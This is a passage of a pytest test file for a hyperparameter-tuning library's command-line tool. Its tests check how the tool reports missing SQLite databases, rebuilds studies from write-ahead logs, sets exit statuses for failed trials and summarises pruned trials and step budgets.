        conn.execute(f"WITH RECURSIVE r(i) AS (SELECT 1 UNION ALL SELECT i + 1 FROM r WHERE i < 3000) "
                     f"INSERT INTO {sql.studies_table.name} (k) SELECT i FROM r")
        conn.execute(f"ALTER TABLE {sql.studies_table.name} ADD COLUMN "  # computed as read, not as added
                     "name AS (length(replace(hex(zeroblob(200000 + k)), '0', 'ab')))")
    ts.Study({"x": ts.Float(0, 1)}, storage="sqlite:///search.db", name="bc-rf")
    opened: list[Path] = []
    real = sql.holds_studies
    monkeypatch.setattr(sql, "holds_studies", lambda path, study=None: opened.append(path) or real(path, study))
    ts.Study({"x": ts.Float(0, 1)}, storage="sqlite:///tunesmith.db", name="new")
    X, y = load_iris(return_X_y=True)  # a stored search's first fit looks for the study it would resume
    TunedSearchCV(LogisticRegression(max_iter=200), {"C": [0.1, 1.0]}, n_trials=1, cv=2,
                  storage="sqlite:///tunesmith.db", name="fit").fit(X, y)
    assert opened == []  # a new study's lookup is not an error shown to anyone
    start = time.monotonic()
    with pytest.raises(ts.StudyNotFound, match=r"\(sqlite:///search.db in its folder holds one\)$"):
        ts.load_study("bc-rf", "sqlite:///tunesmith.db")
    assert time.monotonic() - start < 5  # 15 s for the planted file alone, read unbounded
    assert sorted(p.name for p in opened) == ["planted.db", "search.db"]
    with pytest.raises(ValueError, match=r"\(sqlite:///search.db in its folder holds one\): pass a space"):
        ts.Study(storage="sqlite:///tunesmith.db", name="bc-rf")


def test_a_missing_database_names_only_the_tunesmith_databases_beside_it(
        tmp_path: Path, monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]) -> None:
    """`show` on a missing study.db suggested the MLflow store beside it (by its .db suffix alone), which
    holds no study. Files are suggested only when their schema has tunesmith's tables, read read-only:
    MLflow's own database, another SQLite database, a file that is no database and a FIFO are left out."""
    import os
    import sqlite3

    mlflow = pytest.importorskip("mlflow")
    monkeypatch.chdir(tmp_path)
    mlflow.MlflowClient(tracking_uri="sqlite:///mlflow.db").search_experiments()  # MLflow makes its schema
    assert "experiments" in {r[0] for r in sqlite3.connect("mlflow.db").execute("SELECT name FROM sqlite_master")}
    with sqlite3.connect("ts_named.sqlite") as conn:  # tunesmith's names, one table short
        conn.execute("CREATE TABLE ts_studies (x)")
    (tmp_path / "noise.db").write_bytes(b"SQLite format 3\x00" + b"\xff" * 2000)
    os.mkfifo(tmp_path / "pipe.db")
    before = sorted(p.name for p in tmp_path.iterdir())
    assert run_cli("show", "s", "--storage", "sqlite:///study.db") == 2
    assert capsys.readouterr().err.rstrip().endswith(f"(there is no database file at '{tmp_path / 'study.db'}')")
    assert sorted(p.name for p in tmp_path.iterdir()) == before  # no journal or lock file made beside them
    ts.Study({"x": ts.Float(0, 1)}, storage="sqlite:///runs.db", name="s")
    assert run_cli("show", "s", "--storage", "sqlite:///study.db") == 2
    assert capsys.readouterr().err.rstrip().endswith("its folder holds sqlite:///runs.db)")
    assert run_cli("studies", "--storage", "sqlite:///study.db") == 2
    assert "(--storage names the one to read: --storage sqlite:///runs.db)" in capsys.readouterr().err


def test_a_database_missing_beside_its_write_ahead_log_is_said_kept_and_rebuilt_as_the_hint_says(
        tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    """``study.db`` gone (moved, deleted while a worker had it open) and ``study.db-wal`` left: `show` said
    only that there is no database file, and a `run` made an empty database there, which had SQLite delete
    the log, the study's writes. `show` says what happened and how SQLite rebuilds it from the log; a study
    opened for writing there is refused and the log kept; the hint's steps give the study back whole."""
    import shutil
    import sqlite3

    db, wal = tmp_path / "study.db", tmp_path / "study.db-wal"
    url = f"sqlite:///{db}"
    study = ts.Study({"x": ts.Float(0, 1)}, storage=url, name="s", sampler="random", seed=0)
    study.optimize(lambda t: t.params["x"], n_trials=5)
    shutil.copy(wal, tmp_path / "log")  # while the study has it open: its writes are in the log alone
    study.storage.close()
    for path in tmp_path.iterdir():
        if path.name.startswith("study.db"):
            path.unlink()
    (tmp_path / "log").rename(wal)
    kept = wal.read_bytes()
    assert run_cli("show", "s", "--storage", url) == 2
    err = capsys.readouterr().err
    assert f"its write-ahead log '{wal}'" in err and "moved or deleted while a process had it open" in err, err
    with pytest.raises(ValueError, match="SQLite deletes a log it finds beside an empty file"):
        ts.Study({"x": ts.Float(0, 1)}, storage=url, name="s")
    assert run_cli("run", str(_study_file(tmp_path, url))) != 0
    assert not db.exists() and wal.read_bytes() == kept
    page = int(re.search(r"PRAGMA page_size=(\d+)", err).group(1))  # type: ignore[union-attr]
    wal.rename(tmp_path / "aside")  # the hint's steps
    conn = sqlite3.connect(db)
    conn.execute(f"PRAGMA page_size={page}")
    conn.execute("PRAGMA journal_mode=wal")
    conn.close()
    (tmp_path / "aside").rename(wal)
    with sqlite3.connect(db) as conn:
        assert conn.execute("PRAGMA integrity_check").fetchall() == [("ok",)]
    conn.close()
    assert [t.value is not None for t in ts.load_study("s", url).trials] == [True] * 5


def test_the_rebuild_command_show_prints_runs_as_written_in_a_folder_named_with_quotes(
        tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    """The command that makes the empty database put the path in single quotes inside a double-quoted shell
    string: a folder named ``o'b $x`` broke it (the shell ended the string, expanded ``$x``). Each step run as
    written (the command through a shell, the log moved aside and back) gives every trial back, the stale
    ``-shm`` left in place; the message also says how to start over instead, and `studies` says it too."""
    import shutil
    import sqlite3

    folder = tmp_path / "o'b $x é"
    folder.mkdir()
    db, wal = folder / "study.db", folder / "study.db-wal"
    url = f"sqlite:///{db}"
    study = ts.Study({"x": ts.Float(0, 1)}, storage=url, name="s", sampler="random", seed=0)
    study.optimize(lambda t: t.params["x"], n_trials=7)
    shutil.copy(wal, tmp_path / "log")  # the study's writes are in the log alone
    shutil.copy(folder / "study.db-shm", tmp_path / "shm")
    study.storage.close()
    for path in folder.iterdir():
        path.unlink()
    (tmp_path / "log").rename(wal)
    (tmp_path / "shm").rename(folder / "study.db-shm")
    assert run_cli("show", "s", "--storage", url) == 2
    err = capsys.readouterr().err
    assert "To start the study over instead, without what the log holds, delete 'study.db-wal' and 'study.db-shm'" in err
    command = re.search(r"\((python -c .*?c\.close\(\)')\)", err).group(1)  # type: ignore[union-attr]
    assert run_cli("studies", "--storage", url) == 2  # it said only "there is no such database file"
    assert "its write-ahead log" in capsys.readouterr().err
    wal.rename(tmp_path / "aside")
    made = subprocess.run(shlex.quote(sys.executable) + command.removeprefix("python"), shell=True,
                          capture_output=True, text=True, timeout=60)
    assert made.returncode == 0, made.stderr
    (tmp_path / "aside").rename(wal)
    with sqlite3.connect(db) as conn:
        assert conn.execute("PRAGMA integrity_check").fetchall() == [("ok",)]
    conn.close()
    assert sorted(t.number for t in ts.load_study("s", url).trials if t.value is not None) == list(range(7))


def test_a_log_that_holds_only_the_latest_writes_is_not_offered_for_a_rebuild(
        tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    """A study run twice (the first run's close copied its writes into the file, a checkpoint) and its file
    deleted during the second: the log holds that run's pages only. The rebuild show offered gave a database
    whose integrity_check said 'ok' and that held no study (a write there then loses the log for good). It
    says the log holds part of the pages and the file must be restored; writing there is still refused."""
    import shutil

    db, wal = tmp_path / "study.db", tmp_path / "study.db-wal"
    url = f"sqlite:///{db}"
    ts.Study({"x": ts.Float(0, 1)}, storage=url, name="s", sampler="random", seed=0).optimize(
        lambda t: t.params["x"], n_trials=5)
    assert not wal.exists()  # the first run's writes are in the file
    study = ts.load_study("s", url)
    study.optimize(lambda t: t.params["x"], n_trials=5)
    shutil.copy(wal, tmp_path / "log")
    study.storage.close()
    for path in tmp_path.iterdir():
        if path.name.startswith("study.db"):
            path.unlink()
    (tmp_path / "log").rename(wal)
    assert run_cli("show", "s", "--storage", url) == 2
    err = capsys.readouterr().err
    assert re.search(r"The log holds \d+ of the database's \d+ pages \(a checkpoint copied the others into the "
                     r"file\), so the study cannot be rebuilt from it: restore the file", err), err
    assert "python -c" not in err
    with pytest.raises(ValueError, match="cannot be rebuilt from it"):
        ts.Study({"x": ts.Float(0, 1)}, storage=url, name="s")
    assert wal.exists() and not db.exists()


def _study_file(folder: Path, url: str) -> Path:
    (folder / "obj.py").write_text("def f(trial):\n    return trial.params['x']\n")
    path = folder / "s.yaml"
    path.write_text(f"name: s\nstorage: {url}\nobjective: obj.py:f\nn_trials: 1\nspace: {{x: {{type: float, low: 0, high: 1}}}}\n")
    return path


def test_commands_that_write_leave_no_file_at_a_misspelt_storage(project: Path, capsys: pytest.CaptureFixture[str]) -> None:
    """`note`, `rename`, `delete`, `copy` and `focus` with a misspelt --storage made an empty database there
    and said only "no study named ..."; they read it as missing, as `show` and ``load_study`` do."""
    db = f"sqlite:///{project / 'typo.db'}"
    for argv in (["note", "s", "hello"], ["rename", "s", "t"], ["delete", "s", "--yes"], ["copy", "s", "t"],
                 ["focus", "s", "--keep", "x"]):
        assert run_cli(*argv, "--storage", db) == 2, argv
        assert f"no study named 's' in {db} (there is no database file at '{project / 'typo.db'}')" in \
            capsys.readouterr().err, argv
        assert sorted(p.name for p in project.iterdir() if p.name.startswith("typo")) == [], argv


def test_failing_objective_still_reports(project: Path, capsys: pytest.CaptureFixture[str]) -> None:
    assert run_cli("run", str(project / "study.yaml"), "--name", "broken", "--n-trials", "2", "--no-progress") == 0
    (project / "broken.yaml").write_text(
        (project / "study.yaml").read_text().replace("quad.py:objective", "quad.py:broken").replace("name: quad", "name: br")
    )
    # every trial failed: status 1 (it was 0, so a script could not tell), said on the last line
    assert run_cli("run", str(project / "broken.yaml"), "--n-trials", "2", "--no-progress") == 1
    out = capsys.readouterr().out
    assert "2 failed" in out
    assert out.splitlines()[-1] == ("every trial run now failed (exit status 1); their errors: "
                                    f"tunesmith show br --storage sqlite:///{project / 't.db'}")
    assert run_cli("show", "br", "--storage", f"sqlite:///{project / 't.db'}") == 0
    assert "no complete trial yet" in capsys.readouterr().out


@pytest.mark.parametrize(("objective", "status"), [("broken", 1), ("pruned", 0), ("flaky", 0)])
def test_run_and_worker_exit_1_when_every_trial_they_finished_failed(
    project: Path, capsys: pytest.CaptureFixture[str], objective: str, status: int
) -> None:
    """Only a run whose every trial failed is status 1; one that pruned them all, or completed some, is 0."""
    (project / "s.yaml").write_text((project / "study.yaml").read_text().replace("quad.py:objective", f"quad.py:{objective}"))
    assert run_cli("run", str(project / "s.yaml"), "--n-trials", "3", "--no-progress") == status
    out = capsys.readouterr().out
    assert ("every trial run now failed" in out) == bool(status)
    if status:  # the command it names reads the errors where they are (it lacked --storage: "no study")
        hint = shlex.split(out.split("their errors: ")[1].strip())
        assert hint[:2] == ["tunesmith", "show"] and run_cli(*hint[1:]) == 0 and "nope" in capsys.readouterr().out
    assert run_cli("worker", str(project / "s.yaml"), "--n-trials", "2") == status
    assert ("every trial this worker ran failed (exit status 1)" in capsys.readouterr().out) == bool(status)
    assert run_cli("run", str(project / "s.yaml"), "--n-trials", "0", "--no-progress") == 0  # nothing run: 0


def test_storage_asks_for_synchronous_in_worker_processes(project: Path, capsys: pytest.CaptureFixture[str]) -> None:
    """``--storage sqlite:///...?synchronous=full`` reaches the process workers' connections; a misspelt
    argument, which the driver ignored with a warning, is refused before anything is made."""
    (project / "s.yaml").write_text("executor: process\nn_jobs: 2\n" + (project / "study.yaml").read_text()
                                    .replace("quad.py:objective", "quad.py:synchronous"))
    url = f"sqlite:///{project / 'full.db'}?synchronous=full"
    assert run_cli("worker", str(project / "s.yaml"), "--n-trials", "2", "--storage", url) == 0
    assert [t.value for t in ts.load_study("quad", url).trials] == [2.0, 2.0]
    typo = url.replace("full.db?synchronous", "typo.db?synchronus")
    assert run_cli("run", str(project / "s.yaml"), "--n-trials", "1", "--no-progress", "--storage", typo) == 2
    assert "unknown query argument 'synchronus' (did you mean 'synchronous'?)" in capsys.readouterr().err
    assert not (project / "typo.db").exists()


@pytest.mark.parametrize("executor", ["inline", "thread", "process", pytest.param("ray", marks=pytest.mark.slow)])
def test_a_worker_whose_every_trial_failed_exits_1_while_other_workers_complete_trials(
    project: Path, capsys: pytest.CaptureFixture[str], executor: str, request: pytest.FixtureRequest
) -> None:
    """A worker of a shared study counted the trials other workers finished while it ran: one whose own
    trials all failed (a machine without the objective's dependency) exited 0 while another completed
    trials. Only the trials this command's workers ended count now (Ray: its actors')."""
    if executor == "ray":
        request.getfixturevalue("ray_local")  # a private instance on loopback, which the executor joins
    jobs = "" if executor == "inline" else f"executor: {executor}\nn_jobs: 2\n"
    (project / "s.yaml").write_text(jobs + (project / "study.yaml").read_text().replace("quad.py:objective",
                                                                                        "quad.py:broken_beside"))
    assert run_cli("worker", str(project / "s.yaml"), "--n-trials", "2") == 1
    assert "every trial this worker ran failed (exit status 1)" in capsys.readouterr().out
    trials = ts.load_study("quad", f"sqlite:///{project / 't.db'}").trials
    assert sorted(t.state.value for t in trials) == ["complete"] * 2 + ["failed"] * 2
    assert run_cli("run", str(project / "s.yaml"), "--n-trials", "1", "--no-progress") == 1


def test_a_lost_worker_s_trial_failed_by_the_run_is_not_a_trial_it_ran(
    project: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    """A resumed grid with nothing left but a lost worker's trial: the run fails that trial (its
    heartbeat check) and runs none, status 0 (before: 1, "every trial run now failed")."""
    db = f"sqlite:///{project / 'g.db'}"
    (project / "g.yaml").write_text(
        f"name: g\nobjective: quad.py:objective\nsampler: grid\nstorage: {db}\n"
        "heartbeat_interval: 1\ngrace_period: 2\nspace: {kind: [a], x: [1.0, 2.0], extra: 0.0, scale: 1.0}\n"
    )
    assert run_cli("run", str(project / "g.yaml"), "--no-progress") == 0
    study = ts.Study.load("g", storage=db)
    lost = study._storage.create_trial(study._study_id, params=dict(study.trials[0].params),
                                       state=ts.TrialState.RUNNING, worker="gone:1")
    study._storage.heartbeat(study._study_id, [lost.number], study._storage.clock() - 60)  # its last beat: stale
    capsys.readouterr()
    assert run_cli("run", str(project / "g.yaml"), "--n-trials", "3", "--no-progress") == 0
    assert "every trial run now failed" not in capsys.readouterr().out
    assert ts.Study.load("g", storage=db).trials[lost.number].state is ts.TrialState.FAILED


def test_show_and_export_name_the_pruner_of_a_study_with_paused_trials(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    # before: show named the sampler only, and the JSON export left the pruner out of the study's settings
    db = f"sqlite:///{tmp_path / 'p.db'}"
    pruner = ts.pruners.ASHA(min_resource=1, reduction_factor=3, max_resource=9, pause=True)
    study = ts.Study({"x": ts.Float(0, 1)}, storage=db, name="paused", sampler="random", seed=0, pruner=pruner)

    def objective(trial: ts.Trial) -> float:
        for step in range(max(trial.start_step, 1), 10):
            trial.set_attr("checkpoint", f"ck-{trial.number}")
            trial.report(trial.params["x"] + 1.0 / step, step)
            if trial.should_prune():
                raise ts.TrialPruned()
        return trial.params["x"] + 1.0 / 9

    study.optimize(objective, n_trials=6)
    assert study.trials_in("paused")
    assert run_cli("show", "paused", "--storage", db) == 0
    out = capsys.readouterr().out
    assert "pruner asha (pause=True); " in out and "a later optimize (tunesmith run or worker) resumes those it promotes" in out
    assert run_cli("export", "paused", "--storage", db, "--format", "json") == 0
    doc = json.loads(capsys.readouterr().out)
    assert doc["study"]["pruner"] == pruner.describe()
    assert ts.pruners.make_pruner(doc["study"]["pruner"]).describe() == pruner.describe()


def test_show_lists_paused_trials_of_a_study_whose_stored_pruner_is_none(
        shared_storage_url: str, capsys: pytest.CaptureFixture[str]) -> None:
    """A study created without a pruner whose trials a later session paused under ASHA: show listed no
    paused trial (the stored pruner is none), so nothing named the numbers tunesmith tell takes."""
    space = {"x": ts.Float(0, 1)}
    ts.Study(space, storage=shared_storage_url, name="s", sampler="random", seed=0)
    later = ts.Study(space, storage=shared_storage_url, name="s", sampler="random", seed=0, load_if_exists=True,
                     pruner=ts.pruners.ASHA(pause=True, min_resource=1, reduction_factor=3, max_resource=9))
    for trial in [later.ask() for _ in range(2)]:
        trial.set_attr("checkpoint", "none")
        trial.report(trial.params["x"], 1)
        later.tell(trial, state="paused")
    assert ts.load_study("s", shared_storage_url).pruner.name == "none"
    assert run_cli("show", "s", "--storage", shared_storage_url) == 0
    out = " ".join(capsys.readouterr().out.split())
    assert "pruner none; 2 paused (#0, #1): the study's pruner pauses none: an optimize given the pruner" in out
    assert "tunesmith tell s N --state pruned --storage" in out


def test_commands_printed_for_a_study_named_with_a_leading_dash_run_when_pasted(
        tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    """A study stored before names beginning with '-' were refused: the commands printed for it put the name
    where the command line reads an option (`tunesmith tell -neg N ...`: "the following arguments are required")."""
    import re
    import sqlite3

    from tunesmith.cli.commands import _show_command
    from tunesmith.study.study import _copy_command

    db = f"sqlite:///{tmp_path / 'p.db'}"
    space = {"x": ts.Float(0, 1)}
    study = ts.Study(space, storage=db, name="neg", sampler="random", seed=0,
                     pruner=ts.pruners.ASHA(pause=True, min_resource=1, reduction_factor=3, max_resource=9))
    for trial in [study.ask() for _ in range(2)]:
        trial.set_attr("checkpoint", "none")
        trial.report(trial.params["x"], 1)
        study.tell(trial, state="paused")
    study.storage.close()
    with sqlite3.connect(tmp_path / "p.db") as conn:
        conn.execute("UPDATE ts_studies SET name = '-neg'")
    stored = ts.load_study("-neg", db)
    assert run_cli("show", "--storage", db, "--", "-neg") == 0
    out = " ".join(capsys.readouterr().out.split())
    tell = re.search(r"tunesmith tell .*? N --state pruned --storage \S+|tunesmith tell .*? -- -neg N", out)
    assert tell is not None, out
    copy = _copy_command("-neg", stored.storage)
    for printed in (tell[0].replace(" N", " 0"), _show_command(stored), copy.replace("STUDY.yaml", str(tmp_path / "s.yaml"))):
        (tmp_path / "s.yaml").write_text("objective: obj.py:f\nspace:\n  x: {type: float, low: 0, high: 1}\n")
        words = shlex.split(printed)
        assert words[0] == "tunesmith" and "-neg" in words and words[words.index("-neg") - 1] == "--", printed
        assert run_cli(*words[1:]) == 0, (printed, capsys.readouterr().err)
    assert ts.load_study("-neg", db).trials[0].state is ts.TrialState.PRUNED
    assert {s.name for s in ts.storage.make_storage(db).list_studies()} == {"-neg", "NEW_NAME"}


def test_subcommand_table_is_extensible() -> None:
    names = [c.name for c in SUBCOMMANDS]
    assert names[:5] == ["run", "studies", "show", "export", "plot"] and {"worker", "importance"} <= set(names)
    assert {"copy", "rename", "delete"} <= set(names) and len(set(names)) == len(names)


def test_entry_point_in_a_subprocess(project: Path, subprocess_env: dict[str, str]) -> None:
    """``python -m tunesmith`` runs the same CLI (and shows a progress bar when asked)."""
    cmd = [sys.executable, "-m", "tunesmith", "run", "study.yaml", "--n-trials", "5", "--progress"]
    out = subprocess.run(cmd, cwd=project, env=subprocess_env, capture_output=True, text=True, timeout=120)
    assert out.returncode == 0, out.stderr
    assert "5 trials run now" in out.stdout and "quad" in out.stdout
    assert "5/5" in out.stderr and "best" in out.stderr  # the progress bar, on stderr
    bad = subprocess.run([sys.executable, "-m", "tunesmith", "show"], env=subprocess_env,
                         capture_output=True, text=True, timeout=60)
    assert bad.returncode == 2 and "usage: tunesmith show" in bad.stderr


def test_worker_subcommand_joins_a_study(tmp_path: Path) -> None:
    """``tunesmith worker STUDY.yaml`` runs trials on the study the file names."""
    from tunesmith.cli import main

    (tmp_path / "obj.py").write_text("def f(trial):\n    return (trial.params['x'] - 1) ** 2\n")
    db = f"sqlite:///{tmp_path / 'w.db'}"
    (tmp_path / "s.yaml").write_text(
        f"name: w\nstorage: {db}\nobjective: {tmp_path / 'obj.py'}:f\n"
        "space:\n  x: {type: float, low: -3, high: 3}\nsampler: random\nn_trials: 4\n"
    )
    assert main(["worker", str(tmp_path / "s.yaml"), "--n-trials", "3"]) == 0
    assert len(ts.load_study("w", db).trials) == 3


@pytest.mark.parametrize("argv", [
    ["show", "s", "--top", "0"], ["show", "s", "--top", "-3"], ["report", "s", "--top", "-3"],
    ["importance", "s", "--pairs", "-1"], ["compare", "s.yaml", "--budget", "0", "-o", "c.png"],
    ["compare", "s.yaml", "--seeds", "-2", "-o", "c.png"], ["run", "s.yaml", "--top", "x"],
])
def test_a_count_below_its_minimum_is_refused_by_name(argv: list[str], capsys: pytest.CaptureFixture[str]) -> None:
    # a negative count would slice from the end: --top -3 showed all but the last 3 trials
    with pytest.raises(SystemExit) as exit_:
        main(argv)
    assert exit_.value.code == 2
    err = capsys.readouterr().err
    flag = next(a for a in argv if a.startswith("--"))
    assert f"argument {flag}:" in err and ("must be at least" in err or "expected an integer" in err)


@pytest.mark.parametrize(("argv", "fragment"), [
    (["compare", "s.yaml", "-o", "chart.txt"], "'chart.txt': write to a file ending in .html, .htm, .png"),
    (["compare", "s.yaml", "-o", "no-such-folder/c.png"], "folder 'no-such-folder' does not exist; create it first"),
    (["plot", "s", "-o", "chart"], "'chart': write to a file ending in .html"),
    (["report", "s", "-o", "no-such-folder/r.html"], "folder 'no-such-folder' does not exist"),
    (["report", "s", "-o", "r.png"], "to a .html file; an image of one plot: tunesmith plot, not 'r.png'"),
    (["export", "s", "-o", "."], "'.' is a folder; name a file in it"),
])
def test_an_output_file_that_cannot_be_written_is_refused_before_any_work(
    project: Path, argv: list[str], fragment: str, capsys: pytest.CaptureFixture[str], monkeypatch: pytest.MonkeyPatch
) -> None:
    # before: compare ran every sampler and seed (the objective, budget x seeds x samplers times),
    # then failed on the suffix or the folder; plot, report and export after reading the study
    (project / "s.yaml").write_text("objective: obj.py:objective\nspace: {x: [1, 2]}\n")
    (project / "obj.py").write_text("def objective(trial):\n    raise SystemExit('the objective ran')\n")
    monkeypatch.chdir(project)
    with pytest.raises(SystemExit) as exit_:
        main(argv)
    assert exit_.value.code == 2
    err = capsys.readouterr().err
    assert "argument --output/-o:" in err and fragment in err, err


def test_show_says_why_trials_failed_and_where(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    """show counted failed trials (a lost Ray worker, a timeout) but never said why, nor on which worker."""
    url = f"sqlite:///{tmp_path / 'f.db'}"
    study = ts.Study({"x": ts.Float(0, 1)}, storage=url, name="f", sampler="random", seed=0)

    def objective(trial: ts.Trial) -> float:
        if trial.number % 2:
            raise ValueError(f"[bold]bad batch {trial.number}[/]\nsecond line")
        return trial.params["x"]

    study.optimize(objective, n_trials=14)
    assert main(["show", "f", "--storage", url]) == 0
    out = capsys.readouterr().out
    assert "failed trials (the last 5 of 7; tunesmith export lists all):" in out
    worker = study.trials[13].worker
    assert f"#13 on {worker}: ValueError: [bold]bad batch 13[/]" in out and "#3 " not in out and "second line" not in out


def test_show_lists_pruned_trials_with_their_last_report_and_its_step_as_the_dashboard_and_export(
        tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    """show counted pruned trials but listed none, where the dashboard's table and export give each with its
    value (its last report): an integration's trial pruned where its metric turned NaN was not in show at all.
    Now the latest five, each at its last report's step, which the dashboard gives too ("stopped at")."""
    url = f"sqlite:///{tmp_path / 'p.db'}"
    study = ts.Study({"x": ts.Float(0, 1)}, storage=url, name="p", sampler="random", seed=0)
    for i in range(8):
        study.add_trial({"x": i / 10}, i / 10)
    for i in range(5):
        study.add_trial({"x": 0.5}, state="pruned", intermediate={1: 0.9 + i, 2: 0.8 + i})
    study.add_trial({"x": 0.7}, state="pruned", intermediate={1: 0.4, 2: 0.5}, attrs={"diverged_at": 3})
    for top in ("3", "20"):  # past --top only the heads are read first: the listed trials' reports are read too
        assert main(["show", "p", "--storage", url, "--top", top]) == 0
        out = capsys.readouterr().out
        assert ("pruned trials (the last 5 of 6; tunesmith export lists all), each with its last report: "
                "#9 at step 2: 1.8; #10 at step 2: 2.8; #11 at step 2: 3.8; #12 at step 2: 4.8; "
                "#13 at step 2: 0.5 (diverged at step 3)") in " ".join(out.split()), out
    assert main(["export", "p", "--storage", url, "--format", "json"]) == 0
    exported = json.loads(capsys.readouterr().out)["trials"][13]
    assert (exported["state"], exported["value"], max(map(int, exported["intermediate"]))) == ("pruned", 0.5, 2)
    pytest.importorskip("starlette")
    from starlette.testclient import TestClient

    from tunesmith.dashboard import create_app, open_storage

    c = TestClient(create_app(open_storage(url)))
    table = c.get("/studies/p").text
    assert "<th>stopped at</th>" in table and table.count("<td>step 2</td>") == 6, table
    assert "<td class=l>stopped at</td><td>step 2</td>" in c.get("/studies/p/trials/13").text
    assert "stopped at" not in c.get("/studies/p/trials/0").text


@pytest.mark.parametrize("pruner, full", [
    (ts.pruners.ASHA(min_resource=2, max_resource=9, pause=True), "9 steps, the pruner's max_resource"),
    (None, "9 steps, the longest complete trial"),
])
def test_show_and_the_report_say_how_many_steps_the_trials_trained_and_stopping_them_early_saved(
        tmp_path: Path, capsys: pytest.CaptureFixture[str], pruner: ts.Pruner | None, full: str) -> None:
    """show and the report gave the pruner and the trials' states, never the steps (epochs) trained, the
    steps pruning saved, or the steps the trials were stopped at: a practitioner on a budget could not see
    where it went. Now a line: trained, stopped (how many at each step), saved against full runs."""
    from tunesmith.report import build_report

    url = f"sqlite:///{tmp_path / 'b.db'}"
    study = ts.Study({"x": ts.Float(0, 1)}, storage=url, name="b", sampler="random", seed=0, pruner=pruner)
    curve = {step: 1.0 / step for step in range(1, 10)}
    for i in range(3):  # 3 full runs of 9 steps
        study.add_trial({"x": i / 10}, 0.1 + i, intermediate=curve)
    for _ in range(4):  # 4 stopped at step 2, 1 at step 4: 2 * 4 + 4 steps trained, 7 * 4 + 5 saved
        study.add_trial({"x": 0.5}, state="pruned", intermediate={1: 2.0, 2: 1.5})
    study.add_trial({"x": 0.6}, state="pruned", intermediate={1: 2.0, 2: 1.5, 3: 1.2, 4: 1.1})
    said = ("budget: 39 steps trained by 8 trials; 5 stopped early (pruned or paused: 4 at step 2, 1 at step 4), "
            f"saving 33 steps against running them in full ({full}): 0.54 of the steps without early stopping")
    for top in ("2", "20"):  # --top 2 reads the trials' heads first, without their reports
        assert main(["show", "b", "--storage", url, "--top", top]) == 0
        assert said in " ".join(capsys.readouterr().out.split())
    assert said.removeprefix("budget: ").replace("'", "&#x27;") in build_report(ts.load_study("b", url))


def test_the_budget_line_names_the_steps_that_stopped_the_most_trials_and_counts_the_others(
        shared_storage_url: str, capsys: pytest.CaptureFixture[str]) -> None:
    """A pruner that stops at any step (the median on boosting rounds, a loop reporting its global step)
    stopped trials at hundreds of steps, and the budget line of show and the report named every one: 3,500
    characters for 300 trials. It names the 6 steps that stopped the most, and counts the others."""
    url = shared_storage_url
    study = ts.Study({"x": ts.Float(0, 1)}, storage=url, name="m", sampler="random", seed=0, pruner="median")
    study.add_trial({"x": 0.1}, 0.1, intermediate={step: 1.0 for step in range(1, 101)})
    for step in [*range(3, 101), 10, 10, 10, 20, 20]:  # 1 at each step from 3 to 100, 4 at step 10, 3 at 20
        study.add_trial({"x": 0.5}, state="pruned", intermediate={step: 2.0})
    assert main(["show", "m", "--storage", url]) == 0
    out = " ".join(capsys.readouterr().out.split())
    assert ("budget: 5,217 steps trained by 104 trials; 103 stopped early (pruned or paused: 1 at step 3, 1 at "
            "step 4, 1 at step 5, 1 at step 6, 4 at step 10, 3 at step 20; 92 at 92 other steps from 7 to 100), "
            "saving 5,183 steps against running them in full (100 steps, the longest complete trial): 0.50 of the "
            "steps without early stopping") in out


def test_show_gives_a_pruned_trial_s_last_report_and_a_value_told_with_it_apart(
        shared_storage_url: str, capsys: pytest.CaptureFixture[str]) -> None:
    """show's pruned trials said "each with its last report" and printed the trial's value beside the step: a
    value told with the pruning (``tell(n, 0.9, state="pruned")``) read as step 1's report, which was 0.3."""
    study = ts.Study({"x": ts.Float(0, 1)}, storage=shared_storage_url, name="p", sampler="random", seed=0,
                     pruner="median")
    for i in range(3):
        study.add_trial({"x": i / 10}, i / 10, intermediate={1: i / 10})

    def objective(trial: ts.Trial) -> float:
        trial.report(2.5, 1)
        trial.report(1 / 3, 2)
        raise ts.TrialPruned()  # pruned by the objective: its value is its last report

    study.optimize(objective, n_trials=1)
    told = study.ask()
    told.report(0.3, 1)
    study.tell(told, 0.9, state="pruned")
    study.tell(study.ask(), state="pruned")
    assert main(["show", "p", "--storage", shared_storage_url, "--top", "1"]) == 0
    out = " ".join(capsys.readouterr().out.split())
    assert ("pruned trials, each with its last report: #3 at step 2: 0.333333; #4 at step 1: 0.3 (value 0.9); "
            "#5 before its first report: no value") in out, out


def test_show_prints_whole_values_when_not_to_a_terminal(tmp_path: Path, capsys: pytest.CaptureFixture[str],
                                                         monkeypatch: pytest.MonkeyPatch) -> None:
    # rich folds tables to 80 columns off a terminal: a dozen parameters were all cut to "0.…"
    monkeypatch.delenv("COLUMNS", raising=False)
    url = f"sqlite:///{tmp_path / 'wide.db'}"
    study = ts.Study({f"learning_rate_{i}": ts.Float(0, 1) for i in range(12)}, storage=url, name="wide")
    study.add_trial({f"learning_rate_{i}": 0.123456 for i in range(12)}, 0.5)
    assert main(["show", "wide", "--storage", url]) == 0
    out = capsys.readouterr().out
    assert "…" not in out and "learning_rate_11" in out and out.count("0.1235") == 12
    assert main(["importance", "wide", "--storage", url]) == 2  # one trial: says so, the same console


@pytest.mark.parametrize("columns", ["0", "00", "abc", "", " 120", "\u00b2"])
def test_columns_of_no_width_is_taken_as_not_set(tmp_path: Path, capsys: pytest.CaptureFixture[str],
                                                 monkeypatch: pytest.MonkeyPatch, columns: str) -> None:
    """``COLUMNS=0`` (set where a terminal reports no size): rich's width 0 wrote nothing, status 0. One rich does
    not read (``abc``, empty, `` 120``) folded the table to 80 columns off a terminal, cutting a dozen values to
    "0.…"; ``²``, a digit to ``str.isdigit`` that int() does not read, failed the command ("invalid literal")."""
    monkeypatch.setenv("COLUMNS", columns)
    url = f"sqlite:///{tmp_path / 'z.db'}"
    study = ts.Study({f"learning_rate_{i}": ts.Float(0, 1) for i in range(12)}, storage=url, name="zero")
